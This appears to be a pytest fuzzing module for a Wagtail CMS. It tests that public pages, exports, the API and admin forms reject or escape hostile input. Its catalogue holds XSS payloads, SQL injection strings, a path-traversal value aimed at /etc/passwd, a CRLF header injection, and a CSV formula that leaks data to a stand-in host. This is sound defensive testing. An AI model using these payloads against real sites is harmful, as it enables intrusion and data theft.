"""Hostile input against every public parameter, every admin listing and form, and rich text.

HOSTILE_VALUES (the catalogue below) is tried against every parameter in PUBLIC_PARAMETERS
(record filters, page, search, the exports, the API's filters and own parameters, feeds, URL
slugs) and ADMIN_PARAMETERS (the entry form's fields, the admin listing's filters).

What must hold: never a 5xx; a 4xx, or a 200 that names the refused parameter, where the site
validates; never an unescaped reflection (HTML escaped, JSON and Atom well-formed and escaped,
CSV formulas neutralised, text/plain never sniffed as HTML); never a changed record (database
snapshots before and after); admin forms either keep the value verbatim as text (then shown
escaped everywhere public) or refuse it with a form error; rich text never carries a script,
an event handler or a ``javascript:`` link to a public page, however it got into the database.

The loaded fixtures are shared by the whole test run (tests/conftest.py); each test runs in its
own transaction.
"""

import csv
import io
import json
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from urllib.parse import quote, unquote_plus, urlencode

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group
from django.db import transaction
from django.http import QueryDict
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cms.bad_requests import MAX_QUERY_STRING
from cms.models import CooperationRecordPage, HomePage, PartnerPage
from partnership.dates import FuzzyDate, InvalidFuzzyDate, Precision
from partnership.filters import CooperationEntryFilter
from partnership.models import CooperationEntry

from .conftest import database_snapshot

pytestmark = pytest.mark.django_db


@dataclass(frozen=True)
class Hostile:
    """A hostile query-string value: ``raw`` is percent-encoded as sent (several = the parameter repeated)."""

    name: str
    raw: tuple

    @property
    def text(self):
        """The (last) value as Django decodes it: invalid UTF-8 becomes U+FFFD."""
        return unquote_plus(self.raw[-1], errors="replace")


def text(name, value):
    return Hostile(name, (quote(value, safe=""),))


def raw(name, *encoded):
    return Hostile(name, encoded)


SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
CSV_FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'

# The catalogue: every value here is tried against every parameter below.
HOSTILE_VALUES = [
    text("script", SCRIPT),
    text("attribute", ATTRIBUTE),
    text("single-quote-attribute", "'><svg onload=alert(1)>"),
    text("javascript-url", "javascript:alert(1)"),
    text("template-syntax", "{{ request }}{% debug %}"),
    text("sql-or", "' OR 1=1 --"),
    text("sql-drop", "1; DROP TABLE partnership_cooperationentry; --"),
    text("sql-union", "0 UNION SELECT username, password FROM auth_user"),
    text("like-wildcards", "%_%\\"),
    text("csv-formula", CSV_FORMULA),
    text("long-10k", "a" * 10_000),
    text("long-100k-markup", ("<b>" * 33_334)[:100_000]),
    text("rtl-override", "\u202egpj.exe"),
    text("emoji", "🇯🇵🤝👩‍👩‍👧"),
    text("combining", "Z\u0351\u0300\u0301\u0302" * 40),
    text("zero-width", "\u200b\u200d\ufeff"),
    raw("lone-surrogate", "%ED%A0%80"),
    raw("invalid-utf8", "%FF%FE"),
    raw("overlong-utf8", "%C0%AF"),
    raw("bad-percent", "%zz%"),
    raw("nul", "%00"),
    raw("nul-inside", "japan%00"),
    text("control", "\x01\x07\x1b[31m\x7f"),
    text("crlf-header", "x\r\nSet-Cookie: hostile=1"),
    text("negative", "-1"),
    text("zero", "0"),
    text("huge", "1" + "0" * 30),
    text("float-overflow", "1e309"),
    text("nan", "NaN"),
    text("infinity", "-Infinity"),
    text("fraction", "2014.5"),
    text("fullwidth-digits", "２０１４"),
    text("empty", ""),
    text("blank", "   "),
    text("json-array", '["japan", {"$gt": ""}]'),
    text("path-traversal", "../../../etc/passwd"),
    raw("repeated", "2014", quote(SCRIPT, safe="")),
    raw("repeated-empty", "", ""),
]
VALUE_IDS = [value.name for value in HOSTILE_VALUES]

RECORD_FILTERS = list(
    CooperationEntryFilter.base_filters
)  # partner, kind, area, programme, beneficiary, years, q, sort
API_OWN_PARAMETERS = ["limit", "offset", "fields", "format", "type", "order", "search"]
PAGES_API_PARAMETERS = ["search", "order", "fields", "limit", "offset", "type", "child_of", "slug", "locale"]
# Path segments: a URL with the value in place of {}.
PATHS = {
    "entry-slug": "/cooperation/{}/",
    "feed-slug": "/cooperation/feeds/{}.atom",
    "partner-page": "/partners/{}/",
    "api-entry-id": "/api/v2/entries/{}/",
    "api-page-id": "/api/v2/pages/{}/",
}
# Every public surface and the parameters it takes; ``together`` means all are sent in one request.
PUBLIC_PARAMETERS = {
    "record": ("/cooperation/", [*RECORD_FILTERS, "page", "place"]),
    "export.csv": ("/cooperation/export.csv", RECORD_FILTERS),
    "export.json": ("/cooperation/export.json", RECORD_FILTERS),
    "api-entries-filters": ("/api/v2/entries/", RECORD_FILTERS),
    "api-entries": ("/api/v2/entries/", API_OWN_PARAMETERS),
    "api-pages": ("/api/v2/pages/", PAGES_API_PARAMETERS),
    "search": ("/search/", ["q", "page"]),
    "feed": ("/cooperation/feed.atom", ["partner"]),
}
ENTRY_TEXT_FIELDS = ["title", "description", "source_section"]
ENTRY_OTHER_FIELDS = [
    "partner", "kind", "slug", "start_date", "start_precision", "end_date", "end_precision", "ongoing",
    "amount", "currency", "areas", "programmes", "places", "beneficiaries", "source", "source_quote", "source_order",
]  # fmt: skip
ADMIN_LISTING_PARAMETERS = ["partner", "kind", "areas", "programmes", "year", "live", "q", "ordering", "p", "locale"]
ADMIN_PARAMETERS = {
    "entry-form-text (superuser, editor)": ENTRY_TEXT_FIELDS * 2,
    "entry-form-other (superuser)": ENTRY_OTHER_FIELDS,
    "entry-listing (superuser, editor)": ADMIN_LISTING_PARAMETERS * 2,
}

ENTRIES_ADMIN = "/admin/snippets/partnership/cooperationentry"
# Server errors found and not fixed yet (see the report): (surface, value) -> why.
KNOWN_5XX: dict = {}  # (surface, value name) → why it still fails; empty since cms/bad_requests.py


def known_bug(surface, value):
    if (surface, value.name) in KNOWN_5XX:
        pytest.xfail(KNOWN_5XX[surface, value.name])


SLUG = "japan-liaison-officer-maritime-command"


# --- Shared data ----------------------------------------------------------------------------------


@pytest.fixture
def loaded(loaded, django_user_model):
    """Extends conftest's ``loaded`` (the fixtures, loaded once per test process) with two users."""
    editor = django_user_model.objects.create_user("hostile-editor", password="editor-password-1")
    editor.groups.add(Group.objects.get(name="Editors"))
    return {
        "superuser": django_user_model.objects.create_superuser("hostile-root", "", "root-password-1"),
        "editor": editor,
    }


# --- Checks ---------------------------------------------------------------------------------------

DANGEROUS = set("<>\"'")
MIN_PROBE = 12


def body_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8")


def query(pairs):
    return "&".join(f"{name}={encoded}" for name, value in pairs for encoded in value.raw)


def assert_no_reflection(html, value):
    """The raw value (or its start, if it was cut) never appears unescaped in HTML."""
    for candidate in {value.text, *(unquote_plus(r, errors="replace") for r in value.raw)}:
        probe = candidate.strip()[:40]
        # A few characters such as `"><` occur in any page's own markup: only a probe long enough to be
        # the value itself proves a reflection.
        if DANGEROUS & set(probe) and len(probe) >= MIN_PROBE:
            assert probe not in html, f"unescaped reflection of {probe!r}"


def assert_safe_html(html):
    """No script, event handler or javascript: URL anywhere in a public page (the site uses none)."""
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("script") is None, "a <script> element"
    for tag in soup.find_all(True):
        for attribute, attr_value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), f"an event handler on <{tag.name}>: {attribute}"
            if attribute in ("href", "src", "action", "formaction"):
                assert not "".join(str(attr_value).split()).lower().startswith("javascript:"), (
                    f"{attribute}={attr_value}"
                )


def refused_as_nul(response, qs):
    """A NUL in the parameters of Wagtail's own views: a plain 400 saying so (cms/bad_requests.py)."""
    if "%00" not in qs:
        return False
    assert response.status_code == 400, response.status_code
    assert "NUL" in body_of(response)
    return True


def refused_as_too_long(response, qs):
    """An address longer than any link of the site: a plain 414 saying so (cms/bad_requests.py)."""
    if len(qs) <= MAX_QUERY_STRING:
        return False
    assert response.status_code == 414, response.status_code
    assert "too long" in body_of(response)
    return True


def check_response(response, value, surface=""):
    """Whatever the answer, it is not a server error and it does not reflect the value unescaped."""
    assert response.status_code < 500, f"{surface}: {response.status_code}"
    content_type = response.get("Content-Type", "")
    body = body_of(response) if response.status_code != 304 else ""
    if "html" in content_type:
        assert_no_reflection(body, value)
        if "alert(1)" in body and not surface.startswith("admin"):
            assert_safe_html(body)
    elif "json" in content_type:
        json.loads(body)
    elif "atom" in content_type or "xml" in content_type:
        assert_well_formed_atom(body)
    elif "csv" in content_type:
        assert_neutralised_csv(body)
    elif content_type.startswith("text/plain"):
        assert response.get("X-Content-Type-Options") == "nosniff"
    return body


ATOM = "{http://www.w3.org/2005/Atom}"


def assert_well_formed_atom(xml):
    feed = ET.fromstring(xml)
    for entry in feed.iter(f"{ATOM}entry"):
        summary = entry.find(f"{ATOM}summary")
        if summary is not None and summary.get("type") == "html":
            assert_safe_html(summary.text or "")  # the HTML a reader shows is inert text
    return feed


def assert_neutralised_csv(body):
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), f"formula cell {cell[:40]!r}"
    return rows


def filter_errors(query_string):
    """The filters the record's form refuses in this query string."""
    return set(CooperationEntryFilter(QueryDict(query_string), queryset=CooperationEntry.objects.none()).form.errors)


# --- The catalogue's size -------------------------------------------------------------------------


def test_the_catalogue_covers_every_field_of_the_record_form(client, loaded):
    """Every filter of the record is covered, and so is every field its public form sends."""
    assert set(RECORD_FILTERS) >= {"partner", "kind", "area", "programme", "beneficiary", "year_from", "year_to", "q"}
    path, names = PUBLIC_PARAMETERS["record"]
    form = BeautifulSoup(client.get(path).content, "html.parser").find("form", attrs={"method": "get"})
    sent = {field["name"] for field in form.find_all(["input", "select", "textarea"]) if field.get("name")}
    assert sent and sent <= set(names), sent - set(names)
    assert len(VALUE_IDS) == len(set(VALUE_IDS))


# --- Public GET parameters ------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_record_listing_takes_every_filter_at_once(client, loaded, value):
    """/cooperation/: each refused filter is named; the others still apply; a 200 with no reflection.

    Every filter is validated on its own, so one request with all of them tries each one
    (test_any_text_in_any_record_filter tries them one at a time).
    """
    path, names = PUBLIC_PARAMETERS["record"]
    before = database_snapshot()
    qs = query((name, value) for name in names)
    response = client.get(f"{path}?{qs}")
    body = check_response(response, value, "record")
    if refused_as_too_long(response, qs):
        return
    assert response.status_code == 200
    for name in filter_errors(qs):
        assert f'href="#filter-{name}"' in body, f"the refused {name} is not named"
    assert database_snapshot() == before


@pytest.mark.parametrize("surface", ["export.csv", "export.json", "api-entries-filters"])
@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_exports_and_api_refuse_bad_filters_by_name(client, loaded, surface, value):
    """The files and the API answer 400 naming each refused filter, or 200 with what was asked for."""
    path, names = PUBLIC_PARAMETERS[surface]
    for pairs in ([(name, value) for name in names],):  # every filter is validated on its own: all at once
        qs = query(pairs)
        response = client.get(f"{path}?{qs}")
        body = check_response(response, value, surface)
        if refused_as_too_long(response, qs):
            continue
        refused = filter_errors(qs)
        if refused:
            assert response.status_code == 400, f"{surface} {qs[:80]}: {response.status_code}"
            for name in refused:
                assert name in body, f"{surface}: the refused {name} is not named"
        else:
            assert response.status_code == 200, f"{surface} {qs[:80]}: {response.status_code} {body[:200]}"


@pytest.mark.parametrize("surface", ["api-entries", "api-pages", "search", "feed"])
@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_other_public_parameters(client, loaded, surface, value):
    known_bug(surface, value)
    path, names = PUBLIC_PARAMETERS[surface]
    for name in names:
        response = client.get(f"{path}?{query([(name, value)])}")
        body = check_response(response, value, f"{surface} {name}")
        if response.status_code == 400 and surface == "api-entries":
            assert name in json.loads(body)["message"], f"{surface}: 400 without naming {name}: {body[:200]}"


@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_url_path_segments(client, loaded, value):
    for surface, template in PATHS.items():
        segment = value.raw[-1] or "%20"
        response = client.get(template.format(segment))
        check_response(response, value, surface)
        assert response.status_code in (301, 302, 400, 404), f"{surface}: {response.status_code}"


@pytest.mark.parametrize("value", [v for v in HOSTILE_VALUES if DANGEROUS & set(v.text)], ids=lambda v: v.name)
def test_the_browsable_api_escapes(client, loaded, value):
    """The API's HTML rendering (Accept: text/html) reflects nothing unescaped."""
    known_bug("browsable", value)
    for path, name in (("/api/v2/entries/", "q"), ("/api/v2/entries/", "fields"), ("/api/v2/pages/", "search")):
        response = client.get(f"{path}?{query([(name, value)])}", HTTP_ACCEPT="text/html")
        check_response(response, value, f"browsable {path} {name}")


def test_list_shaped_parameter_names_are_refused_or_ignored(client, loaded):
    """PHP- and JSON-style arrays (?partner[]=japan, ?fields[0]=title) are unknown names, never a 500."""
    for path in ("/cooperation/", "/cooperation/export.csv", "/api/v2/entries/", "/api/v2/pages/", "/search/"):
        for qs in ("partner[]=japan&partner[]=x", "fields[0]=title", "q[$ne]=1", "%00=1", "%FF=%FF", "=&&=="):
            response = client.get(f"{path}?{qs}")
            assert response.status_code in (200, 400), f"{path}?{qs}: {response.status_code}"
    assert client.get("/api/v2/entries/?partner[]=japan").status_code == 400


# --- Property-based: arbitrary text and numbers for each parameter ---------------------------------

# Derandomized: the same examples on every run, so CI is repeatable (a new failure is a new bug).
BOUNDED = settings(
    max_examples=40, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
ANY_TEXT = st.one_of(
    st.text(max_size=300),
    st.integers().map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.sampled_from([v.text for v in HOSTILE_VALUES if len(v.text) < 300]),
)


@BOUNDED
@given(name=st.sampled_from([*RECORD_FILTERS, "page"]), value=ANY_TEXT)
def test_any_text_in_any_record_filter(client, loaded, name, value):
    response = client.get("/cooperation/", {name: value})
    check_response(response, Hostile("generated", (quote(value, safe=""),)), "record")
    assert response.status_code == 200


@BOUNDED
@given(params=st.dictionaries(st.sampled_from([*RECORD_FILTERS, "limit", "offset", "fields"]), ANY_TEXT, max_size=4))
def test_any_api_parameters(client, loaded, params):
    response = client.get("/api/v2/entries/", params)
    assert response.status_code in (200, 400), response.content[:300]
    json.loads(response.content)


@BOUNDED
@given(params=st.dictionaries(st.sampled_from(RECORD_FILTERS), ANY_TEXT, max_size=3))
def test_any_export_parameters(client, loaded, params):
    response = client.get("/cooperation/export.json", params)
    assert response.status_code in (200, 400)
    json.loads(body_of(response))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.one_of(st.text(), st.from_regex(r"(the )?(early |mid-|late )?\d{4}s?|\d{4}-\d{1,2}(-\d{1,2})?", fullmatch=True))
)
def test_fuzzy_dates_parse_or_say_why(text_value):
    """Any text is read as a date or refused with InvalidFuzzyDate; a date read prints as text that reads back the same."""
    try:
        date = FuzzyDate.parse(text_value)
    except InvalidFuzzyDate:
        return
    if date.date.year >= 1000:  # years before 1000 print unpadded ("1"), which is not read back
        assert FuzzyDate.parse(str(date)) == date
    assert date.first_day <= date.last_day


@settings(max_examples=100, deadline=None, derandomize=True)
@given(year=st.integers(min_value=-(10**30), max_value=10**30), month=st.integers(-5, 20), day=st.integers(-5, 40))
def test_fuzzy_dates_of_any_numbers(year, month, day):
    for words in (f"{year}", f"{year}-{month}", f"{year}-{month}-{day}", f"{day} April {year}", f"{year}s"):
        try:
            date = FuzzyDate.parse(words)
        except InvalidFuzzyDate:
            continue
        assert date.precision in Precision.values


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -1, 10**30, None, ["2014"], {"a": 1}, b"\xff"])
def test_fuzzy_dates_of_wrong_types(value):
    with pytest.raises(InvalidFuzzyDate):
        FuzzyDate.parse(value)


# --- The admin: the entry listing's filters and the entry form -------------------------------------


@pytest.mark.parametrize("role", ["superuser", "editor"])
@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_admin_listing_filters(client, loaded, role, value):
    known_bug("admin-listing", value)
    client.force_login(loaded[role])
    before = database_snapshot()
    filters = [name for name in ADMIN_LISTING_PARAMETERS if name != "p"]
    qs = query((name, value) for name in filters)
    response = client.get(f"{ENTRIES_ADMIN}/?{qs}")
    check_response(response, value, "admin listing")
    # 404: Wagtail's answer to a locale that does not exist
    assert refused_as_too_long(response, qs) or refused_as_nul(response, qs) or response.status_code in (200, 404)
    page_qs = query([("p", value)])
    page = client.get(f"{ENTRIES_ADMIN}/?{page_qs}")  # a page that is not one: Wagtail's 404
    check_response(page, value, "admin listing p")
    assert refused_as_too_long(page, page_qs) or refused_as_nul(page, page_qs) or page.status_code in (200, 404)
    assert database_snapshot() == before


def entry_form_body(entry, changes):
    """The admin edit form's fields for ``entry`` as a urlencoded body, with raw (percent-encoded) ``changes``."""
    from tests.test_editors import entry_form

    fields = {key: value for key, value in entry_form(entry).items() if key not in changes}
    return "&".join([urlencode(fields, doseq=True), *(f"{name}={encoded}" for name, encoded in changes.items())])


def post_entry(client, entry, changes, action=None):
    body = entry_form_body(entry, changes) + (f"&{action}={action.removeprefix('action-')}" if action else "")
    return client.post(f"{ENTRIES_ADMIN}/edit/{entry.pk}/", body, content_type="application/x-www-form-urlencoded")


def public_fields(entry):
    return {name: getattr(entry, name) for name in ("title", "description", "source_section", "slug", "live")}


@pytest.mark.parametrize("role", ["superuser", "editor"])
@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=VALUE_IDS)
def test_admin_entry_form_keeps_text_verbatim_or_refuses_it(client, loaded, role, value):
    """Title, description and section: saved as a draft exactly as typed, or a form error; the live entry is unchanged."""
    client.force_login(loaded[role])
    entry = CooperationEntry.objects.get(slug=SLUG)
    live_before = public_fields(entry)
    response = post_entry(client, entry, dict.fromkeys(ENTRY_TEXT_FIELDS, value.raw[-1]))
    check_response(response, value, "admin form")
    entry.refresh_from_db()
    assert public_fields(entry) == live_before, "a draft changed the live entry"
    if response.status_code == 200:
        assert "error" in body_of(response).lower()
        return
    assert response.status_code == 302
    draft = entry.get_latest_revision_as_object()
    # As typed: Django strips the ends, and line breaks are stored as LF, however posted (a browser posts
    # CRLF: partnership.admin_forms.NewlinesAsStoredMixin).
    typed = value.text.strip().replace("\r\n", "\n").replace("\r", "\n")
    for name in ENTRY_TEXT_FIELDS:
        assert getattr(draft, name) == typed, name


@pytest.mark.parametrize(
    "value",
    HOSTILE_VALUES,
    ids=VALUE_IDS,
)
def test_admin_entry_form_refuses_what_is_not_a_value(client, loaded, value):
    """Relations, dates, amounts, codes and slugs: a form error, nothing saved."""
    client.force_login(loaded["superuser"])
    entry = CooperationEntry.objects.get(slug=SLUG)
    before = database_snapshot()
    response = post_entry(client, entry, dict.fromkeys(ENTRY_OTHER_FIELDS, value.raw[-1]), action="action-publish")
    check_response(response, value, "admin form")
    assert response.status_code in (200, 400)  # 400: a body over Django's upload limit
    assert response.status_code == 400 or "error" in body_of(response).lower()
    assert database_snapshot() == before, "a refused form changed the database"


# --- What editors type is shown escaped everywhere public ------------------------------------------

SHOWN_VALUES = [
    v
    for v in HOSTILE_VALUES
    if v.name in {"script", "attribute", "single-quote-attribute", "javascript-url", "csv-formula", "template-syntax"}
]


@pytest.mark.parametrize("value", SHOWN_VALUES, ids=lambda v: v.name)
def test_hostile_text_saved_by_an_editor_is_escaped_everywhere_public(client, loaded, value):
    client.force_login(loaded["superuser"])
    entry = CooperationEntry.objects.get(slug=SLUG)
    changes = dict.fromkeys(ENTRY_TEXT_FIELDS, value.raw[-1])
    assert post_entry(client, entry, changes, action="action-publish").status_code == 302
    entry.refresh_from_db()
    assert (entry.title, entry.description, entry.source_section) == (value.text,) * 3
    client.logout()
    for url in (
        f"/cooperation/{SLUG}/",
        "/cooperation/?partner=japan&sort=title",
        "/partners/japan/",
        "/",
        f"/search/?q={quote(value.text)}",
    ):
        response = client.get(url)
        body = check_response(response, value, url)
        assert response.status_code == 200
        assert_safe_html(body)
        assert value.text not in body or not DANGEROUS & set(value.text)
    detail = body_of(client.get(f"/cooperation/{SLUG}/"))
    assert f"<h1>{value.text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}" in detail.replace(
        "&quot;", '"'
    ).replace("&#x27;", "'")
    feed = assert_well_formed_atom(body_of(client.get("/cooperation/feed.atom")))
    titles = [e.findtext(f"{ATOM}title") for e in feed.iter(f"{ATOM}entry")]
    assert f"Japan: {value.text}" in titles  # the title is text, and reads back exactly
    data = json.loads(body_of(client.get("/cooperation/export.json?partner=japan")))
    assert value.text in [e["title"] for e in data["entries"]]
    api = client.get("/api/v2/entries/?partner=japan&fields=title,description&limit=100").json()
    assert value.text in [e["title"] for e in api["items"]]
    rows = assert_neutralised_csv(body_of(client.get("/cooperation/export.csv?partner=japan")))
    title_column = rows[0].index("title")
    shown = [row[title_column] for row in rows[1:]]
    assert (f"'{value.text}" if value.text[:1] in "=+-@" else value.text) in shown


# --- Rich text: sanitised on the way out, however it got in ----------------------------------------

RICH_PAYLOADS = [
    "<p>Before<script>alert(1)</script>after</p>",
    '<p><img src="x" onerror="alert(1)">image</p>',
    '<p><a href="javascript:alert(1)">a link</a> <a href=" JaVaScRiPt:alert(1)">spaced</a></p>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">handler</p>',
    '<p><iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)></svg><object data="x"></object></p>',
    '<p><a href="&#106;avascript:alert(1)">entity</a><a href="java\tscript:alert(1)">tab</a></p>',
    "<p><style>body{display:none}</style><form action=javascript:alert(1)><button>b</button></form></p>",
]


@pytest.mark.parametrize("payload", RICH_PAYLOADS)
def test_rich_text_put_straight_into_the_database_is_sanitised_on_output(client, loaded, payload):
    """Page intros, highlights, body paragraphs and list items, written without the editor (fixtures, the shell, SQL)."""
    for model in (HomePage, CooperationRecordPage):
        page = model.objects.get()
        page.intro = payload
        page.save_revision().publish()
    page = PartnerPage.objects.get()
    page.highlights = [("highlight", payload)]
    page.body = [
        ("paragraph", payload),
        ("bullet_list", {"items": [payload]}),
        ("quote", {"quote": payload, "attribution": payload}),
        ("heading", {"text": payload, "level": "h2", "anchor": payload}),
    ]
    page.save_revision().publish()
    for url in ("/", "/cooperation/", "/partners/japan/", "/partners/"):
        response = client.get(url)
        assert response.status_code == 200
        body = body_of(response)
        assert_safe_html(body)
        assert "<iframe" not in body and "<object" not in body and "<style" not in body and "<form action=j" not in body


def test_rich_text_the_admin_saves_has_no_script_or_javascript_link(client, loaded):
    """Through the admin's editor (Draftail's contentstate): hostile text stays text, a javascript: link loses its URL."""
    client.force_login(loaded["superuser"])
    page = CooperationRecordPage.objects.get()
    contentstate = {
        "blocks": [
            {
                "key": "a1b2c",
                "type": "unstyled",
                "depth": 0,
                "text": f"{SCRIPT} {ATTRIBUTE} click",
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": len(SCRIPT) + len(ATTRIBUTE) + 2, "length": 5, "key": 0}],
                "data": {},
            }
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(1)"}}},
    }
    data = {
        "title": page.title,
        "slug": page.slug,
        "intro": json.dumps(contentstate),
        "action-publish": "publish",
    }
    response = client.post(f"/admin/pages/{page.pk}/edit/", data)
    assert response.status_code == 302, body_of(response)[:500]
    page.refresh_from_db()
    assert "javascript:" not in page.intro
    client.logout()
    body = body_of(client.get("/cooperation/"))
    assert_safe_html(body)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


# --- The whole admin: every listing's GET parameters, every partnership and page form, every role --------
# Found, not listed by hand: the listings are the admin's parameterless GET routes (and the page explorer),
# their parameters the fields of the GET forms each one shows a superuser (filters, search, sort) plus the
# listing parameters Wagtail reads without a form (p, ordering, q, locale); the forms are the add and edit
# forms of every partnership snippet and the edit form of every page type, their fields read from the page.
# Values are a sample of the catalogue (the kinds that broke things: markup, SQL, NUL, bad UTF-8, huge,
# repeated, empty); roles without admin access get two (they never reach a view).

ADMIN_SAMPLE = [
    v
    for v in HOSTILE_VALUES
    if v.name in {"script", "sql-or", "nul-inside", "invalid-utf8", "huge", "repeated", "json-array"}
]
ADMIN_ROLES = ["anonymous", "nogroup", "editor", "moderator", "superuser"]
LISTING_ALWAYS = ["p", "ordering", "q", "locale"]


@pytest.fixture
def admin_people(loaded, django_user_model):
    users = {"anonymous": None, "superuser": loaded["superuser"], "editor": loaded["editor"]}
    users["moderator"] = django_user_model.objects.create_user("hostile-moderator", password="moderator-password-1")
    users["moderator"].groups.add(Group.objects.get(name="Moderators"))
    users["nogroup"] = django_user_model.objects.create_user("hostile-nogroup", password="nogroup-password-1")
    return users


def admin_listing_urls():
    """The admin's GET pages without URL parameters (listings, reports, the dashboard…), and the page explorer."""
    from wagtail.models import Page

    from tests.test_access import all_url_patterns

    skip = {"admin/logout/", "admin/failwhale/", "admin/sprite/", "admin/jsi18n/", "admin/two-factor/"}
    urls = [
        "/" + route
        for route, _callback in all_url_patterns()
        if route.startswith("admin/")
        and "<" not in route
        and "^" not in route
        and "(" not in route
        and route not in skip
    ]
    urls += [f"/admin/pages/{page.pk}/" for page in Page.objects.filter(depth__lte=3)]
    return sorted(set(urls))


def get_form_fields(html):
    """The names of every field of every GET form (filters, search, sort) on an admin page."""
    soup = BeautifulSoup(html, "html.parser")
    names = set()
    for form in soup.find_all("form"):
        if (form.get("method") or "get").lower() != "get":
            continue
        for field in form.find_all(["input", "select", "textarea"]):
            if field.get("name") and field.get("type") not in ("submit", "button"):
                names.add(field["name"])
    return names


def listing_parameters(client, url):
    response = client.get(url)
    if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
        return None
    return sorted(get_form_fields(body_of(response)) | set(LISTING_ALWAYS))


# One test per role (each is a long walk): pytest-xdist runs them side by side.
@pytest.mark.parametrize("role", ADMIN_ROLES)
def test_every_admin_listing_takes_hostile_parameters_from_every_role(client, loaded, admin_people, role):
    from django.test import Client

    superuser = Client()
    superuser.force_login(admin_people["superuser"])
    listings = {url: params for url in admin_listing_urls() if (params := listing_parameters(superuser, url))}
    assert "/admin/snippets/partnership/cooperationentry/" in listings and "/admin/images/" in listings
    assert {"partner", "kind", "q"} <= set(listings["/admin/snippets/partnership/cooperationentry/"])
    role_client = Client(raise_request_exception=False)
    if admin_people[role] is not None:
        role_client.force_login(admin_people[role])
    before = database_snapshot()
    problems = []
    values = ADMIN_SAMPLE if role in ("editor", "moderator", "superuser") else ADMIN_SAMPLE[:2]
    for url, params in listings.items():
        for value in values:
            qs = query((name, value) for name in params)
            response = role_client.get(f"{url}?{qs}")
            try:
                check_response(response, value, f"admin {url}")
            except AssertionError as error:
                problems.append(f"{role} GET {url} [{value.name}]: {error}")
    assert database_snapshot() == before
    assert not problems, "\n".join(problems[:40])


def admin_form_urls():
    """The add and edit forms of every partnership snippet, and the edit form of every page type."""
    from django.apps import apps
    from wagtail.models import Page

    urls = []
    for model in apps.get_app_config("partnership").get_models():
        viewset = getattr(model, "snippet_viewset", None)
        if viewset is None:
            continue
        urls.append((model, None, f"/admin/snippets/partnership/{model._meta.model_name}/add/"))
        obj = model.objects.order_by("pk").first()
        urls.append((model, obj, f"/admin/snippets/partnership/{model._meta.model_name}/edit/{obj.pk}/"))
    for page in Page.objects.filter(depth__gte=2).specific():
        if not any(type(p) is type(page) for _m, p, _u in urls):
            urls.append((type(page), page, f"/admin/pages/{page.pk}/edit/"))
    return urls


def post_form_fields(html):
    """(name, value) pairs of the page's main POST form as the browser would send them, and which are typed by people."""
    soup = BeautifulSoup(html, "html.parser")
    form = max(
        soup.find_all("form", method=lambda m: m and m.lower() == "post"), key=lambda f: len(f.find_all("input"))
    )
    pairs, typed = [], set()
    for field in form.find_all(["input", "select", "textarea"]):
        name = field.get("name")
        if not name:
            continue
        kind = (field.get("type") or "text").lower()
        if field.name == "select":
            for option in field.find_all("option", selected=True):
                pairs.append((name, option.get("value", "")))
            typed.add(name)
        elif field.name == "textarea":
            pairs.append((name, field.text))
            typed.add(name)
        elif kind in ("checkbox", "radio"):
            if field.has_attr("checked"):
                pairs.append((name, field.get("value", "on")))
            typed.add(name)
        elif kind not in ("submit", "button", "file", "image"):
            pairs.append((name, field.get("value", "")))
            if kind != "hidden":
                typed.add(name)
    return pairs, typed


def rows_of(model):
    return list(model._base_manager.order_by("pk").values())


class _RolledBack(Exception):
    pass


def post_and_check(role_client, role, model, url, body, value, action):
    from wagtail.models import Page

    problems = []
    live_before = list(Page.objects.order_by("pk").values_list("pk", "live", "live_revision_id"))
    entries_before = list(CooperationEntry.objects.values_list("pk", "live", "live_revision_id"))
    rows_before = rows_of(model)
    response = role_client.post(url, body, content_type="application/x-www-form-urlencoded")
    label = f"{role} POST {url} [{value.name}{' publish' if action else ''}]"
    try:
        check_response(response, value, f"admin {url}")
    except AssertionError as error:
        problems.append(f"{label}: {error}")
    saved = response.status_code == 302 and role in ("editor", "moderator", "superuser")
    if not saved and rows_of(model) != rows_before:
        problems.append(f"{label}: a refused form changed {model.__name__}")
    if role in ("anonymous", "nogroup", "editor"):
        if live_before != list(Page.objects.order_by("pk").values_list("pk", "live", "live_revision_id")):
            problems.append(f"{label}: changed what pages are published")
        if entries_before != list(CooperationEntry.objects.values_list("pk", "live", "live_revision_id")):
            problems.append(f"{label}: changed what entries are published")
    if role in ("anonymous", "nogroup") and response.status_code == 302:
        assert "/admin/login/" in response["Location"] or response["Location"] == "/admin/"
    return problems


@pytest.mark.parametrize("role", ADMIN_ROLES)
def test_every_partnership_and_page_form_takes_hostile_values_from_every_role(client, loaded, admin_people, role):
    from django.test import Client

    superuser = Client()
    superuser.force_login(admin_people["superuser"])
    forms = []
    for model, obj, url in admin_form_urls():
        page = superuser.get(url)
        assert page.status_code == 200, url
        forms.append((model, obj, url, *post_form_fields(body_of(page))))
